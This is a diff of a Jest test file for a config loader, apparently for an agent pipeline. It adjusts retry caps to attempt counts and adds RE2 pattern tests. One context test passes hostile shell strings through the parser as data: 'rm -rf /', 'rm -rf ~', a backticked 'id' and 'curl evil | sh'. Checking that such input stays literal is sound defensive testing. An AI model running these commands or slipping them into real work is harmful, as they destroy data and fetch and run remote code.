@@ -57,12 +57,14 @@ describe('loadConfig', () => {
 });
 
 describe('caps', () => {
-  it('follow DOMAIN.md section 8 and are finite retry counts', () => {
+  // Issue 17 item 5: attempts in all, as the source table counts them (they were retries;
+  // the classes the table does not list keep their budgets, one attempt added).
+  it('follow DOMAIN.md section 8 and are finite attempt counts', () => {
     expect(DEFAULT_CAPS).toEqual({
-      BROKEN_BUILD: 1, VERIFICATION_FAILED: 3, CIRCULAR_FIX: 0, CONTEXT_EXHAUSTED: 2, UNKNOWN: 2, RATE_LIMITED: 4,
-      OVERLOADED: 4, NETWORK: 3, STALLED: 2, INVALID_INPUT: 0, PERMISSION: 0, TOOL_NOT_FOUND: 0,
+      BROKEN_BUILD: 1, VERIFICATION_FAILED: 3, CIRCULAR_FIX: 0, CONTEXT_EXHAUSTED: 3, UNKNOWN: 2, RATE_LIMITED: 5,
+      OVERLOADED: 5, NETWORK: 4, STALLED: 3, INVALID_INPUT: 0, PERMISSION: 0, TOOL_NOT_FOUND: 0,
       // issue 12: cluster faults and pods killed for memory
-      INFRA: 6, OOM_KILLED: 1,
+      INFRA: 7, OOM_KILLED: 2,
     });
     for (const n of Object.values(DEFAULT_CAPS)) expect(Number.isInteger(n)).toBe(true);
   });
@@ -70,7 +72,7 @@ describe('caps', () => {
   it('a configured cap overrides only its class', () => {
     const caps = parse('limits: {caps: {RATE_LIMITED: 3}}').limits.caps;
     expect(caps.RATE_LIMITED).toBe(3);
-    expect(caps.NETWORK).toBe(3);
+    expect(caps.NETWORK).toBe(4);
     expect(caps.BROKEN_BUILD).toBe(1);
   });
 });
@@ -181,5 +183,13 @@ sources: {checkpoint: status/checkpoint.md, resume: RESUME.md, todos: .checkroom
     command: [sh, -c, 'echo "$(rm -rf /)"; \`id\`', '{unit}; rm -rf ~', '&& curl evil | sh', '$HOME', "a'b"]
 `);
     expect(cfg.agents.writer.command).toEqual(['sh', '-c', 'echo "$(rm -rf /)"; `id`', '{unit}; rm -rf ~', '&& curl evil | sh', '$HOME', "a'b"]);
+  });
+});
+
+describe('patterns are RE2 (issue 16 item 3)', () => {
+  it('takes RE2 syntax V8 refuses: (?P<name>…) groups in todo_pattern, POSIX classes in units.pattern', () => {
+    const cfg = parse("sources:\n  todo_pattern: '^(?P<unit>ch\\d+)-(?P<step>[a-z0-9]+)$'\nunits:\n  pattern: 'ch[[:digit:]]{2,3}'\n");
+    expect(cfg.sources.todoPattern).toBe('^(?P<unit>ch\\d+)-(?P<step>[a-z0-9]+)$');
+    expect(cfg.pipeline.units.pattern).toBe('ch[[:digit:]]{2,3}');
   });
 });
